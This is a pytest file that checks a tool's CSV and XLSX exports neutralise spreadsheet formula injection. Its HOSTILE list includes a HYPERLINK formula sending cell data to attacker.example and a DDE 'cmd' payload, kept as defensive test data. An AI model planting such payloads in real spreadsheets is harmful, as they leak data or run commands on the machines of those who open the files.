"""Exports are safe to open: a cell that a spreadsheet would read as a formula arrives as
text (CSV: a leading quote, the OWASP practice; XLSX: a string cell, never a formula)."""

from __future__ import annotations

import csv
import io

import pytest

from msa_check.batch.export_formats import csv_cell, write_csv
from msa_check.batch.export_xlsx import write_xlsx

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["We audited 48 suppliers.", "a = b", "", "Fees - repaid"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_that_starts_like_a_formula_gets_a_leading_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value.replace("\r", "\n")


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_and_numbers_are_written_as_they_are(value: str) -> None:
    assert csv_cell(value) == value
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5  # numbers are not text


def test_the_csv_export_reads_back_with_every_hostile_cell_neutralised() -> None:
    stream = io.StringIO()
    rows = [{"sentence": value, "n": index} for index, value in enumerate(HOSTILE + HARMLESS)]
    write_csv(stream, ["sentence", "n"], rows)
    read = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))[1:]
    for (sentence, _), value in zip(read, HOSTILE + HARMLESS, strict=True):
        if value in HOSTILE:
            assert sentence == "'" + value.replace("\r", "\n")
        else:
            assert sentence == value


def test_the_xlsx_export_stores_formula_like_text_as_strings() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    stream = io.BytesIO()
    rows = [{"sentence": value} for value in HOSTILE + HARMLESS]
    write_xlsx(stream, ["sentence"], rows, title="wide")
    stream.seek(0)
    sheet = openpyxl.load_workbook(stream)["wide"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    for cell, value in zip(cells, HOSTILE + HARMLESS, strict=True):
        assert cell.data_type != "f", value  # never a formula
        if value in HOSTILE:
            # The text survives (XML reads a carriage return back as a line feed).
            assert str(cell.value).lstrip("\r\n\t") == value.lstrip("\r\t")
            assert cell.data_type == "s" and cell.quotePrefix
